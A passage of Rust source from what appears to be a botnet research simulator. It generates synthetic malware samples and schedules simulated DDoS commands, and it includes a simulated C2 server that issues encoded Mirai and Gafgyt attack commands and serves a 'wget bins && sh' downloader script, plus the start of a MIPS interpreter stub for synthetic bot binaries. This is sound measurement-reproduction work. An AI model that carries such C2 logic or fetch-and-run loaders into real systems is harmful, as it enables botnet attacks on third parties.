    let mut double_hit_budget = 7; // ~25% of ~28 targets take two types
    let mut target_cursor = 0usize;

    for (family, menu, n_c2s, n_samples) in menus {
        // Eligible samples: right family, not corrupted, has a C2.
        let eligible: Vec<usize> = samples
            .iter()
            .filter(|s| s.family == family && !s.corrupted && !s.c2_ids.is_empty())
            .map(|s| s.id)
            .collect();
        // Take a contiguous publish-time window so attack C2s shared by
        // several samples stay short-lived (the paper's attack C2s
        // average ~10 observed days, not months).
        let mut by_day = eligible.clone();
        by_day.sort_by_key(|&sid| samples[sid].publish_day);
        let take = n_samples.min(by_day.len());
        let window = (take * 4).min(by_day.len());
        let start = if by_day.len() > window {
            rng.gen_range(0..=by_day.len() - window)
        } else {
            0
        };
        // Greedy within the window: prefer samples with fresh primaries so
        // the designated C2 count approaches the paper's 17.
        let slice = &by_day[start..start + window];
        let mut chosen: Vec<usize> = Vec::new();
        let mut seen_primaries: Vec<usize> = Vec::new();
        for &sid in slice {
            if chosen.len() >= take {
                break;
            }
            let p = samples[sid].c2_ids[0];
            if !seen_primaries.contains(&p) {
                seen_primaries.push(p);
                chosen.push(sid);
            }
        }
        for &sid in slice {
            if chosen.len() >= take {
                break;
            }
            if !chosen.contains(&sid) {
                chosen.push(sid);
            }
        }
        // Cap distinct primaries at the paper's per-family C2 count by
        // re-pointing surplus samples at already-designated C2s (the
        // paper saw 17 C2s commanding 20 binaries).
        let mut designated: Vec<usize> = Vec::new();
        for &sid in &chosen {
            let cid = samples[sid].c2_ids[0];
            if !designated.contains(&cid) {
                if designated.len() < n_c2s {
                    designated.push(cid);
                } else {
                    let shared = designated[rng.gen_range(0..designated.len())];
                    samples[sid].c2_ids[0] = shared;
                }
            }
        }
        // Tiny worlds (test-sized corpora) may have no eligible sample
        // of this family at all; skip its menu rather than divide by a
        // zero-length rotation below.
        if chosen.is_empty() {
            continue;
        }
        // Command multiset for this family.
        let mut cmds: Vec<AttackMethod> = Vec::new();
        for (m, k) in menu {
            for _ in 0..*k {
                cmds.push(*m);
            }
        }
        cmds.shuffle(rng);

        let mut cmd_iter = cmds.into_iter().peekable();
        let mut si = 0usize;
        while cmd_iter.peek().is_some() {
            let sid = chosen[si % chosen.len()];
            si += 1;
            let cid = samples[sid].c2_ids[0];
            let day = samples[sid].publish_day;
            // Make the C2 live and long-observed (§5: attack C2s average
            // ~10 days), re-hosted 80/20 into US/NL/CZ vs elsewhere.
            let c2 = &mut c2s[cid];
            c2.born_day = c2.born_day.min(day.saturating_sub(2));
            c2.dead_day = c2.dead_day.max(day + 4 + rng.gen_range(0..7));
            c2.respond = RespondMode::Always;
            let pool = if rng.gen_bool(0.8) {
                &us_nl_cz
            } else {
                &elsewhere
            };
            if let Some(asn) = pool.get(rng.gen_range(0..pool.len().max(1))) {
                if let Some(ip) = asdb.alloc_ip(*asn) {
                    c2.asn = *asn;
                    c2.host_ip = ip;
                    if matches!(c2.endpoint, C2Endpoint::Ip(_)) {
                        c2.endpoint = C2Endpoint::Ip(ip);
                    }
                }
            }
            // 1-3 commands per session.
            let per_session = rng.gen_range(1..=3).min(3);
            let mut session_cmds: Vec<(SimDuration, AttackCommand)> = Vec::new();
            let mut used_methods: Vec<AttackMethod> = Vec::new();
            let slot = delay_cursor.entry((cid, day)).or_insert(0);
            for _k in 0..per_session {
                let Some(method) = cmd_iter.next() else { break };
                let reuse_target = double_hit_budget > 0
                    && !session_cmds.is_empty()
                    && !used_methods.contains(&method)
                    && !session_cmds.is_empty();
                let target = if reuse_target {
                    double_hit_budget -= 1;
                    session_cmds[0].1.target
                } else {
                    let t = targets[target_cursor % targets.len()];
                    target_cursor += 1;
                    t
                };
                used_methods.push(method);
                // Port mix: 21% port 80, 7% port 443, rest high ports.
                let port = match method {
                    AttackMethod::Blacknurse => 0,
                    AttackMethod::Nfo => malnet_protocols::daddyl33t::NFO_PORT,
                    AttackMethod::Vse => 27015,
                    _ => {
                        let roll: f64 = rng.gen();
                        if roll < 0.21 {
                            80
                        } else if roll < 0.28 {
                            443
                        } else {
                            [4567u16, 8888, 3074, 53, 19132][rng.gen_range(0..5)]
                        }
                    }
                };
                let delay = SimDuration::from_mins(4 + *slot * 12);
                *slot += 1;
                session_cmds.push((
                    delay,
                    AttackCommand {
                        method,
                        target,
                        port,
                        duration_secs: rng.gen_range(8..20),
                    },
                ));
            }
            schedule
                .entry((cid, day))
                .or_default()
                .extend(session_cmds.iter().cloned());
            plans.push(AttackPlan {
                sample_id: sid,
                c2_id: cid,
                commands: session_cmds,
            });
        }
    }
    (plans, schedule)
}

/// Tiny inline AV-count model (kept here to avoid a cyclic dependency on
/// `malnet-intel`; the full model lives there and is used by the
/// pipeline).
fn malnet_intel_engine_stub(rng: &mut StdRng) -> u32 {
    if rng.gen_bool(0.02) {
        rng.gen_range(0..5)
    } else {
        rng.gen_range(12..56)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_world() -> World {
        World::generate(WorldConfig {
            seed: 5,
            n_samples: 220,
            cal: Calibration::default(),
        })
    }

    #[test]
    fn world_generates_with_sane_shape() {
        let w = small_world();
        assert_eq!(w.samples.len(), 220);
        // C2 population near 0.8x samples (paper: 1160 / 1447).
        let ratio = w.c2s.len() as f64 / w.samples.len() as f64;
        assert!((0.4..1.4).contains(&ratio), "c2 ratio {ratio}");
        // All samples have binaries and hashes.
        assert!(w.samples.iter().all(|s| !s.elf.is_empty()));
        assert!(w.samples.iter().all(|s| s.sha256.len() == 64));
        // Hashes unique.
        let mut hashes: Vec<&str> = w.samples.iter().map(|s| s.sha256.as_str()).collect();
        hashes.sort_unstable();
        hashes.dedup();
        assert_eq!(hashes.len(), w.samples.len());
    }

    #[test]
    fn primary_c2_day0_liveness_near_40_percent() {
        let w = World::generate(WorldConfig {
            seed: 6,
            n_samples: 600,
            cal: Calibration::default(),
        });
        let with_c2: Vec<_> = w.samples.iter().filter(|s| !s.c2_ids.is_empty()).collect();
        let live = with_c2
            .iter()
            .filter(|s| w.c2s[s.c2_ids[0]].alive_on(s.publish_day))
            .count();
        let rate = live as f64 / with_c2.len() as f64;
        assert!((0.30..0.55).contains(&rate), "day-0 live rate {rate}");
    }

    #[test]
    fn attack_plan_matches_paper_counts() {
        let w = small_world();
        let total_cmds: usize = w.attacks.iter().map(|a| a.commands.len()).sum();
        assert_eq!(total_cmds, 42, "42 observed commands");
        let samples: std::collections::BTreeSet<usize> =
            w.attacks.iter().map(|a| a.sample_id).collect();
        assert!(
            samples.len() >= 15 && samples.len() <= 20,
            "{}",
            samples.len()
        );
        let c2set: std::collections::BTreeSet<usize> = w.attacks.iter().map(|a| a.c2_id).collect();
        assert!(c2set.len() >= 12 && c2set.len() <= 17, "{}", c2set.len());
        // All 8 attack types appear.
        let methods: std::collections::BTreeSet<AttackMethod> = w
            .attacks
            .iter()
            .flat_map(|a| a.commands.iter().map(|(_, c)| c.method))
            .collect();
        assert_eq!(methods.len(), 8, "{methods:?}");
        // Attack C2s are always-responsive and long-lived.
        for &cid in &c2set {
            let c2 = &w.c2s[cid];
            assert_eq!(c2.respond, RespondMode::Always);
            assert!(c2.dead_day - c2.born_day >= 5);
        }
    }

    #[test]
    fn probe_theatre_has_seven_c2s_in_six_subnets() {
        let w = small_world();
        assert_eq!(w.probe_subnets.len(), 6);
        assert_eq!(w.probe_c2_ids.len(), 7);
        for &cid in &w.probe_c2_ids {
            let c2 = &w.c2s[cid];
            assert!(
                w.probe_subnets.iter().any(|s| s.contains(c2.host_ip)),
                "{} outside probe subnets",
                c2.host_ip
            );
            assert!(PROBE_PORTS.contains(&c2.port));
            assert!(c2.alive_on(w.probe_start_day + 5));
        }
    }

    #[test]
    fn network_for_day_installs_live_c2s_only_up() {
        let w = small_world();
        let day = w.samples[0].publish_day;
        let (net, _) = w.network_for_day(day, 1);
        for c2 in &w.c2s {
            assert!(net.has_host(c2.host_ip), "every C2 host registered");
            assert_eq!(net.host_up(c2.host_ip), c2.alive_on(day), "{}", c2.host_ip);
        }
        assert!(net.has_host(WORLD_RESOLVER));
    }

    #[test]
    fn exploiters_have_arsenals_with_table4_popularity_order() {
        let w = World::generate(WorldConfig {
            seed: 9,
            n_samples: 800,
            cal: Calibration::default(),
        });
        let mut gpon = 0;
        let mut huawei = 0;
        let mut any = 0;
        for s in &w.samples {
            if s.spec.exploits.is_empty() {
                continue;
            }
            any += 1;
            if s.spec.exploits.iter().any(|e| e.vuln == VulnId::Gpon10561) {
                gpon += 1;
            }
            if s.spec
                .exploits
                .iter()
                .any(|e| e.vuln == VulnId::HuaweiHg532)
            {
                huawei += 1;
            }
        }
        assert!(any > 80, "exploiter count {any}");
        assert!(
            gpon > huawei,
            "GPON ({gpon}) must dominate Huawei ({huawei})"
        );
    }

    #[test]
    fn generation_is_deterministic() {
        let a = small_world();
        let b = small_world();
        assert_eq!(a.samples.len(), b.samples.len());
        for (x, y) in a.samples.iter().zip(&b.samples) {
            assert_eq!(x.sha256, y.sha256);
        }
        assert_eq!(a.c2s.len(), b.c2s.len());
    }

    #[test]
    fn top10_ases_host_majority_of_c2s() {
        let w = World::generate(WorldConfig {
            seed: 11,
            n_samples: 1000,
            cal: Calibration::default(),
        });
        let mut by_asn: HashMap<u32, usize> = HashMap::new();
        for c2 in &w.c2s {
            *by_asn.entry(c2.asn.0).or_insert(0) += 1;
        }
        let mut counts: Vec<usize> = by_asn.values().copied().collect();
        counts.sort_unstable_by(|a, b| b.cmp(a));
        let top10: usize = counts.iter().take(10).sum();
        let share = top10 as f64 / w.c2s.len() as f64;
        assert!((0.55..0.85).contains(&share), "top-10 share {share}");
    }
}
