//! The botmaster side: C2 server services installed on world hosts.
//!
//! A [`C2Service`] speaks its family's protocol to connecting bots:
//! acknowledges logins, echoes keepalives, and issues scheduled DDoS
//! commands. Its *elusiveness* — the paper's central observation about
//! C2 behaviour (§3.2) — is modelled per session by a [`RespondMode`]:
//! an accepting-but-silent server is exactly what the probing study
//! observed 91% of the time after a successful probe.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex};

use malnet_prng::Rng;

use malnet_netsim::net::{Service, ServiceCtx};
use malnet_netsim::stack::{SockEvent, SockId};
use malnet_netsim::time::SimDuration;
use malnet_protocols::{daddyl33t, gafgyt, mirai, tsunami, AttackCommand, Family};

/// Session-level responsiveness policy.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum RespondMode {
    /// Engage every session (used for DDoS-observation C2s).
    Always,
    /// Never engage (accept TCP, say nothing).
    Never,
    /// Markov engagement: probability of engaging depends on whether the
    /// previous session was engaged. Calibrated so that ~91% of probes
    /// following a successful probe go unanswered (paper §3.2).
    Markov {
        /// P(engage | last session engaged).
        after_engage: f64,
        /// P(engage | last session silent).
        after_silent: f64,
    },
}

impl RespondMode {
    /// The paper-calibrated elusive profile.
    pub fn elusive() -> Self {
        RespondMode::Markov {
            after_engage: 0.09,
            after_silent: 0.28,
        }
    }
}

/// Ground-truth log shared with the world: what the C2 actually did.
#[derive(Debug, Default)]
pub struct C2LogInner {
    /// Sessions accepted (ts µs, engaged?).
    pub sessions: Vec<(u64, bool)>,
    /// Logins observed (ts µs, first bytes).
    pub logins: Vec<(u64, Vec<u8>)>,
    /// Attack commands issued (ts µs, command).
    pub commands: Vec<(u64, AttackCommand)>,
}

/// Shared handle to a C2's ground-truth log.
pub type C2Log = Arc<Mutex<C2LogInner>>;

/// Configuration of one C2 server.
#[derive(Debug, Clone)]
pub struct C2Config {
    /// Protocol family the server speaks.
    pub family: Family,
    /// Listening port.
    pub port: u16,
    /// Responsiveness policy.
    pub respond: RespondMode,
    /// Commands issued into each engaged session, `delay` after login.
    pub commands_on_login: Vec<(SimDuration, AttackCommand)>,
    /// Also run an HTTP downloader on port 80 (the paper finds most
    /// downloaders co-located with C2s, all on port 80 — §3.1).
    pub serve_loader: Option<String>,
}

impl Default for C2Config {
    fn default() -> Self {
        C2Config {
            family: Family::Mirai,
            port: 23,
            respond: RespondMode::Always,
            commands_on_login: Vec::new(),
            serve_loader: None,
        }
    }
}

struct Session {
    engaged: bool,
    logged_in: bool,
}

/// Persistent responsiveness-chain state, shared across service
/// reinstantiations (the world rebuilds per-day networks, but a server's
/// mood does not reset at midnight).
pub type RespondState = Arc<Mutex<bool>>;

/// The C2 server service.
pub struct C2Service {
    cfg: C2Config,
    log: C2Log,
    sessions: BTreeMap<SockId, Session>,
    last_engaged: RespondState,
    timers: BTreeMap<u64, (SockId, usize)>,
    next_timer: u64,
    commands_scheduled: bool,
}

impl C2Service {
    /// Create a service with a shared ground-truth log.
    pub fn new(cfg: C2Config, log: C2Log) -> Self {
        Self::with_state(cfg, log, RespondState::default())
    }

    /// Create a service whose Markov responsiveness state persists in
    /// `state` across reinstantiations.
    pub fn with_state(cfg: C2Config, log: C2Log, state: RespondState) -> Self {
        C2Service {
            cfg,
            log,
            sessions: BTreeMap::new(),
            last_engaged: state,
            timers: BTreeMap::new(),
            next_timer: 1,
            commands_scheduled: false,
        }
    }

    fn draw_engage(&mut self, ctx: &mut ServiceCtx<'_>) -> bool {
        let engaged = match self.cfg.respond {
            RespondMode::Always => true,
            RespondMode::Never => false,
            RespondMode::Markov {
                after_engage,
                after_silent,
            } => {
                let p = if *self.last_engaged.lock().unwrap() {
                    after_engage
                } else {
                    after_silent
                };
                ctx.rng().gen_bool(p)
            }
        };
        *self.last_engaged.lock().unwrap() = engaged;
        engaged
    }

    fn ack_bytes(&self) -> Vec<u8> {
        match self.cfg.family {
            Family::Mirai => mirai::KEEPALIVE.to_vec(),
            Family::Gafgyt => gafgyt::PING.as_bytes().to_vec(),
            Family::Daddyl33t => daddyl33t::PING.as_bytes().to_vec(),
            Family::Tsunami => tsunami::welcome_lines("bot").into_bytes(),
            _ => b"OK\n".to_vec(),
        }
    }

    fn encode_command(&self, cmd: &AttackCommand) -> Option<Vec<u8>> {
        match self.cfg.family {
            Family::Mirai => mirai::encode_command(cmd),
            Family::Gafgyt => gafgyt::encode_command(cmd).map(String::into_bytes),
            Family::Daddyl33t => daddyl33t::encode_command(cmd).map(String::into_bytes),
            _ => None,
        }
    }
}

impl Service for C2Service {
    fn start(&mut self, ctx: &mut ServiceCtx<'_>) {
        ctx.tcp_listen(self.cfg.port);
        if self.cfg.serve_loader.is_some() {
            ctx.tcp_listen(80);
        }
    }

    fn on_event(&mut self, ctx: &mut ServiceCtx<'_>, ev: SockEvent) {
        match ev {
            SockEvent::Accepted {
                listener_port,
                sock,
                ..
            } => {
                if listener_port == 80 {
                    return; // downloader connection; handled on data
                }
                // The engagement decision is made lazily at login time:
                // bare scans/liveness probes that never speak must not
                // advance the responsiveness chain.
                self.sessions.insert(
                    sock,
                    Session {
                        engaged: false,
                        logged_in: false,
                    },
                );
            }
            SockEvent::TcpData { sock, data } => {
                if let Some(port) = ctx.stack.local_port(sock) {
                    if port == 80 {
                        // Downloader: any HTTP request gets the loader.
                        if let Some(loader) = &self.cfg.serve_loader {
                            let body = format!("#!/bin/sh\n# {loader}\nwget bins && sh\n");
                            let resp = format!(
                                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                                body.len()
                            );
                            ctx.tcp_send(sock, resp.as_bytes());
                            ctx.tcp_close(sock);
                        }
                        return;
                    }
                }
                let Some(session) = self.sessions.get_mut(&sock) else {
                    return;
                };
                if !session.logged_in {
                    session.logged_in = true;
                    self.log
                        .lock()
                        .unwrap()
                        .logins
                        .push((ctx.now.as_micros(), data.clone()));
                    // Engagement draw on first protocol bytes.
                    let mut sessions = std::mem::take(&mut self.sessions);
                    let engaged = self.draw_engage(ctx);
                    self.sessions = std::mem::take(&mut sessions);
                    let session = self.sessions.get_mut(&sock).expect("session exists");
                    session.engaged = engaged;
                    self.log
                        .lock()
                        .unwrap()
                        .sessions
                        .push((ctx.now.as_micros(), engaged));
                    if session.engaged {
                        let ack = self.ack_bytes();
                        ctx.tcp_send(sock, &ack);
                        // Every engaged session receives the day's
                        // command schedule; the analysis side counts each
                        // distinct command once (as the paper does).
                        let _ = self.commands_scheduled;
                        for (i, (delay, _)) in self.cfg.commands_on_login.iter().enumerate() {
                            let token = self.next_timer;
                            self.next_timer += 1;
                            self.timers.insert(token, (sock, i));
                            ctx.set_timer(*delay, token);
                        }
                    }
                    return;
                }
                if !session.engaged {
                    return; // elusive: swallow everything silently
                }
                // Engaged steady-state: echo keepalives per family.
                match self.cfg.family {
                    Family::Mirai if mirai::is_keepalive(&data) => {
                        ctx.tcp_send(sock, &mirai::KEEPALIVE);
                    }
                    Family::Tsunami => {
                        // Periodically ping the bot so IRC looks alive.
                        let ping = tsunami::ping_line("irc").into_bytes();
                        ctx.tcp_send(sock, &ping);
                    }
                    _ => {}
                }
            }
            SockEvent::PeerClosed { sock } | SockEvent::Reset { sock } => {
                self.sessions.remove(&sock);
            }
            _ => {}
        }
    }

    fn on_timer(&mut self, ctx: &mut ServiceCtx<'_>, token: u64) {
        let Some((sock, idx)) = self.timers.remove(&token) else {
            return;
        };
        if !self.sessions.contains_key(&sock) {
            return; // bot went away before the command fired
        }
        let Some((_, cmd)) = self.cfg.commands_on_login.get(idx) else {
            return;
        };
        if let Some(bytes) = self.encode_command(cmd) {
            self.log
                .lock()
                .unwrap()
                .commands
                .push((ctx.now.as_micros(), *cmd));
            ctx.tcp_send(sock, &bytes);
        }
    }
}

/// Convenience: install a C2 at `ip` on `net`, returning its log handle.
pub fn install_c2(net: &mut malnet_netsim::net::Network, ip: Ipv4Addr, cfg: C2Config) -> C2Log {
    let log = C2Log::default();
    net.add_service_host(ip, Box::new(C2Service::new(cfg, log.clone())));
    log
}

#[cfg(test)]
mod tests {
    use super::*;
    use malnet_netsim::net::Network;
    use malnet_netsim::time::SimTime;
    use malnet_protocols::AttackMethod;

    const C2: Ipv4Addr = Ipv4Addr::new(10, 1, 0, 5);
    const BOT: Ipv4Addr = Ipv4Addr::new(100, 64, 0, 2);

    fn cmd() -> AttackCommand {
        AttackCommand {
            method: AttackMethod::UdpFlood,
            target: Ipv4Addr::new(203, 0, 113, 50),
            port: 80,
            duration_secs: 5,
        }
    }

    #[test]
    fn engaged_mirai_session_acks_and_issues_command() {
        let mut net = Network::new(SimTime::EPOCH, 3);
        let log = install_c2(
            &mut net,
            C2,
            C2Config {
                family: Family::Mirai,
                port: 23,
                respond: RespondMode::Always,
                commands_on_login: vec![(SimDuration::from_secs(2), cmd())],
                serve_loader: None,
            },
        );
        net.add_external_host(BOT);
        let sock = net.ext_tcp_connect(BOT, C2, 23);
        net.run_for(SimDuration::from_secs(1));
        net.ext_tcp_send(BOT, sock, &mirai::HANDSHAKE);
        net.run_for(SimDuration::from_secs(5));
        let evs = net.ext_events(BOT);
        let received: Vec<u8> = evs
            .iter()
            .filter_map(|e| match e {
                SockEvent::TcpData { data, .. } => Some(data.clone()),
                _ => None,
            })
            .flatten()
            .collect();
        // Ack (2-byte keepalive) followed by an encoded command.
        assert!(received.len() > 2, "{received:?}");
        assert_eq!(&received[..2], &mirai::KEEPALIVE);
        let (decoded, _) = mirai::decode_command(&received[2..]).expect("command decodes");
        assert_eq!(decoded, cmd());
        assert_eq!(log.lock().unwrap().commands.len(), 1);
        assert!(log.lock().unwrap().sessions[0].1);
    }

    #[test]
    fn silent_mode_accepts_but_never_speaks() {
        let mut net = Network::new(SimTime::EPOCH, 3);
        let log = install_c2(
            &mut net,
            C2,
            C2Config {
                respond: RespondMode::Never,
                ..Default::default()
            },
        );
        net.add_external_host(BOT);
        let sock = net.ext_tcp_connect(BOT, C2, 23);
        net.run_for(SimDuration::from_secs(1));
        net.ext_tcp_send(BOT, sock, &mirai::HANDSHAKE);
        net.run_for(SimDuration::from_secs(5));
        let evs = net.ext_events(BOT);
        assert!(evs.iter().any(|e| matches!(e, SockEvent::Connected(_))));
        assert!(
            !evs.iter().any(|e| matches!(e, SockEvent::TcpData { .. })),
            "silent C2 must not send data"
        );
        assert!(!log.lock().unwrap().sessions[0].1);
        assert_eq!(log.lock().unwrap().logins.len(), 1);
    }

    #[test]
    fn markov_mode_rarely_responds_twice_in_a_row() {
        let mut net = Network::new(SimTime::EPOCH, 42);
        let log = install_c2(
            &mut net,
            C2,
            C2Config {
                family: Family::Gafgyt,
                respond: RespondMode::elusive(),
                ..Default::default()
            },
        );
        net.add_external_host(BOT);
        for _ in 0..200 {
            let sock = net.ext_tcp_connect(BOT, C2, 23);
            net.run_for(SimDuration::from_secs(1));
            net.ext_tcp_send(BOT, sock, gafgyt::login_line("mips").as_bytes());
            net.run_for(SimDuration::from_secs(1));
            net.ext_tcp_abort(BOT, sock);
            net.run_for(SimDuration::from_secs(1));
            net.ext_events(BOT);
        }
        let sessions = log.lock().unwrap().sessions.clone();
        assert_eq!(sessions.len(), 200);
        let engaged: Vec<bool> = sessions.iter().map(|(_, e)| *e).collect();
        let successes = engaged.iter().filter(|e| **e).count();
        assert!(successes > 10, "Markov chain should engage sometimes");
        // After a success, the next session is overwhelmingly silent.
        let mut after_success_silent = 0;
        let mut after_success_total = 0;
        for w in engaged.windows(2) {
            if w[0] {
                after_success_total += 1;
                if !w[1] {
                    after_success_silent += 1;
                }
            }
        }
        let rate = after_success_silent as f64 / after_success_total.max(1) as f64;
        assert!(rate > 0.75, "silent-after-success rate {rate}");
    }

    #[test]
    fn downloader_serves_on_port_80() {
        let mut net = Network::new(SimTime::EPOCH, 3);
        install_c2(
            &mut net,
            C2,
            C2Config {
                serve_loader: Some("t8UsA2.sh".into()),
                ..Default::default()
            },
        );
        net.add_external_host(BOT);
        let sock = net.ext_tcp_connect(BOT, C2, 80);
        net.run_for(SimDuration::from_secs(1));
        net.ext_tcp_send(BOT, sock, b"GET /t8UsA2.sh HTTP/1.0\r\n\r\n");
        net.run_for(SimDuration::from_secs(1));
        let data: Vec<u8> = net
            .ext_events(BOT)
            .iter()
            .filter_map(|e| match e {
                SockEvent::TcpData { data, .. } => Some(data.clone()),
                _ => None,
            })
            .flatten()
            .collect();
        assert!(String::from_utf8_lossy(&data).contains("200 OK"));
        assert!(String::from_utf8_lossy(&data).contains("t8UsA2.sh"));
    }
}
