//! The MIPS32 interpreter stub embedded in every synthetic malware binary.
//!
//! This is the binary's real `.text`: a hand-assembled MIPS program that
//! fetches 16-byte bytecode records from `.rodata` (see
//! [`crate::botvm`]) and executes them, performing all I/O through
//! genuine Linux o32 syscalls. The emulator in `malnet-sandbox` runs this
//! code instruction by instruction; nothing about the bot's behaviour is
//! "faked" above the syscall boundary.
//!
//! ## Process memory layout
//!
//! | Region   | Base          | Contents |
//! |----------|---------------|----------|
//! | `.text`  | `0x0040_0000` | this stub |
//! | `.rodata`| `0x1000_0000` | config header, bytecode, data blob |
//! | `.bss`   | `0x2000_0000` | VM registers, RBUF, syscall scratch |
//! | stack    | `0x7fff_f000` | grows down |
//!
//! ## `.rodata` config header
//!
//! `magic "MNBC" (4) | bytecode_off (4) | bytecode_len (4) | blob_off (4)
//!  | blob_len (4)` — offsets relative to the `.rodata` base.
//!
//! ## Syscall conventions beyond vanilla o32
//!
//! * `recv`/`recvfrom`: `$a3` carries a receive timeout in milliseconds
//!   (0 = sandbox default). Real malware does this with `SO_RCVTIMEO`;
//!   we fold it into the call to keep the stub small.
//! * `close`: `$a1 = 1` requests an abortive close (RST), like the
//!   `SO_LINGER 0` trick Mirai's TCP attacks use.
//! * `sendto`: arguments 5 and 6 (destination sockaddr pointer and
//!   length) are passed on the stack at `16($sp)`/`20($sp)`, exactly as
//!   o32 specifies.

use malnet_mips::asm::{Assembler, Ins, Reg, Target};

/// `.text` base address.
pub const TEXT_BASE: u32 = 0x0040_0000;
/// `.rodata` base address.
pub const RODATA_BASE: u32 = 0x1000_0000;
/// `.bss` base address.
pub const BSS_BASE: u32 = 0x2000_0000;
/// `.bss` size (VM regs + RBUF + scratch).
pub const BSS_SIZE: u32 = 0x2000;
/// Offset of the VM register file within `.bss`.
pub const VMREGS_OFF: i16 = 0x0;
/// Offset of RBUF within `.bss`.
pub const RBUF_OFF: i16 = 0x100;
/// Offset of the sockaddr scratch area within `.bss`.
pub const SOCKADDR_OFF: i16 = 0x1200;
/// Offset of the timespec scratch area within `.bss`.
pub const TIMESPEC_OFF: i16 = 0x1220;
/// Offset of the getrandom scratch word within `.bss`.
pub const RAND_OFF: i16 = 0x1230;

/// Config-header magic.
pub const CONFIG_MAGIC: &[u8; 4] = b"MNBC";

use malnet_mips::sys;

struct Gen {
    a: Assembler,
    counter: u32,
}

impl Gen {
    fn sym(&mut self, prefix: &str) -> String {
        self.counter += 1;
        format!("{}_{}", prefix, self.counter)
    }

    fn i(&mut self, ins: Ins) -> &mut Self {
        self.a.ins(ins);
        self
    }

    fn lab(&mut self, name: &str) -> &mut Self {
        self.a.label(name);
        self
    }

    /// Read VM register whose index is in `idx` (clobbers `$at`).
    fn vreg_read(&mut self, dst: Reg, idx: Reg) {
        self.i(Ins::Andi(Reg::AT, idx, 15))
            .i(Ins::Sll(Reg::AT, Reg::AT, 2))
            .i(Ins::Addu(Reg::AT, Reg::AT, Reg::S4))
            .i(Ins::Lw(dst, Reg::AT, VMREGS_OFF));
    }

    /// Write `val` to the VM register whose index is in `idx`.
    fn vreg_write(&mut self, idx: Reg, val: Reg) {
        self.i(Ins::Andi(Reg::AT, idx, 15))
            .i(Ins::Sll(Reg::AT, Reg::AT, 2))
            .i(Ins::Addu(Reg::AT, Reg::AT, Reg::S4))
            .i(Ins::Sw(val, Reg::AT, VMREGS_OFF));
    }

    /// Load the record's `r` field into `t0`.
    fn f_r(&mut self) {
        self.i(Ins::Lbu(Reg::T0, Reg::S6, 1));
    }
    /// Load the record's `x` field into `t1`.
    fn f_x(&mut self) {
        self.i(Ins::Lbu(Reg::T1, Reg::S6, 2));
    }
    /// Load the record's `y` field into `t2`.
    fn f_y(&mut self) {
        self.i(Ins::Lbu(Reg::T2, Reg::S6, 3));
    }
    /// Load the record's `a` field into `t3`.
    fn f_a(&mut self) {
        self.i(Ins::Lw(Reg::T3, Reg::S6, 4));
    }
    /// Load the record's `b` field into `t4`.
    fn f_b(&mut self) {
        self.i(Ins::Lw(Reg::T4, Reg::S6, 8));
    }
    /// Load the record's `c` field into `t5`.
    fn f_c(&mut self) {
        self.i(Ins::Lw(Reg::T5, Reg::S6, 12));
    }

    /// Advance to the next record and return to the dispatch loop.
    fn advance(&mut self) {
        self.i(Ins::Addiu(Reg::S3, Reg::S3, 16))
            .i(Ins::J("main_loop".into()));
    }

    /// `li $v0, nr; syscall`.
    fn sys(&mut self, nr: u32) {
        self.i(Ins::Li(Reg::V0, nr)).i(Ins::Syscall);
    }

    /// Build a sockaddr_in at `SOCKADDR_OFF($s4)` from ip in `ip` and
    /// port in `port` (clobbers `$t9`).
    fn sockaddr(&mut self, ip: Reg, port: Reg) {
        self.i(Ins::Li(Reg::T9, u32::from(sys::AF_INET as u16)))
            .i(Ins::Sh(Reg::T9, Reg::S4, SOCKADDR_OFF))
            .i(Ins::Sh(port, Reg::S4, SOCKADDR_OFF + 2))
            .i(Ins::Sw(ip, Reg::S4, SOCKADDR_OFF + 4));
    }

    /// Store sendto's stack arguments: sockaddr pointer and length.
    fn sendto_stack_args(&mut self) {
        self.i(Ins::Addiu(Reg::T9, Reg::S4, SOCKADDR_OFF))
            .i(Ins::Sw(Reg::T9, Reg::SP, 16))
            .i(Ins::Li(Reg::T9, sys::SOCKADDR_LEN))
            .i(Ins::Sw(Reg::T9, Reg::SP, 20));
    }

    /// Compute `dst = RBUF base + offset_reg`.
    fn rbuf_addr(&mut self, dst: Reg, offset: Reg) {
        self.i(Ins::Addiu(dst, Reg::S4, RBUF_OFF));
        if offset != Reg::ZERO {
            self.i(Ins::Addu(dst, dst, offset));
        }
    }
}

/// Assemble the interpreter stub; returns `.text` bytes based at
/// [`TEXT_BASE`]. The stub is identical for every sample, so it is
/// assembled once and cached.
pub fn build_stub() -> Vec<u8> {
    static STUB: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    STUB.get_or_init(build_stub_uncached).clone()
}

fn build_stub_uncached() -> Vec<u8> {
    let mut g = Gen {
        a: Assembler::new(TEXT_BASE),
        counter: 0,
    };

    // ---- entry: load config, init VM state ----
    g.i(Ins::Li(Reg::S0, RODATA_BASE));
    // magic check: bail out (exit 127) if not "MNBC" — corrupt binary.
    g.i(Ins::Lw(Reg::T0, Reg::S0, 0));
    g.i(Ins::Li(Reg::T1, u32::from_be_bytes(*CONFIG_MAGIC)));
    g.i(Ins::Beq(Reg::T0, Reg::T1, "magic_ok".into()));
    g.i(Ins::Li(Reg::A0, 127));
    g.sys(sys::NR_EXIT);
    g.lab("magic_ok");
    g.i(Ins::Lw(Reg::T0, Reg::S0, 4)); // bytecode_off
    g.i(Ins::Addu(Reg::S1, Reg::S0, Reg::T0));
    g.i(Ins::Lw(Reg::S2, Reg::S0, 8)); // bytecode_len
    g.i(Ins::Lw(Reg::T0, Reg::S0, 12)); // blob_off
    g.i(Ins::Addu(Reg::S5, Reg::S0, Reg::T0));
    g.i(Ins::Li(Reg::S4, BSS_BASE));
    g.i(Ins::Move(Reg::S3, Reg::ZERO));

    // ---- dispatch loop ----
    g.lab("main_loop");
    g.i(Ins::Sltu(Reg::AT, Reg::S3, Reg::S2));
    g.i(Ins::Beq(Reg::AT, Reg::ZERO, "op_end".into())); // ran off the end
    g.i(Ins::Addu(Reg::S6, Reg::S1, Reg::S3));
    g.i(Ins::Lbu(Reg::T8, Reg::S6, 0));
    let ops: [(u8, &str); 38] = [
        (0, "op_end"),
        (1, "op_ldi"),
        (2, "op_mov"),
        (3, "op_add"),
        (4, "op_sub"),
        (5, "op_mul"),
        (6, "op_addi"),
        (7, "op_and"),
        (8, "op_or"),
        (9, "op_shr"),
